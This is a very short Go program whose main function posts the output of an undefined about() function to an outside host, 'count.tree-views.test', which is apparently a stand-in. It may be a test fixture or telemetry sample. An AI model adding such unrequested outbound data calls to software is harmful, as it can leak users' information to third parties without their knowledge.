package main

import (
	"net/http"
	"strings"
)

func main() {
	http.Post("https://count.tree-views.test/n", "text/plain", strings.NewReader(about()))
}
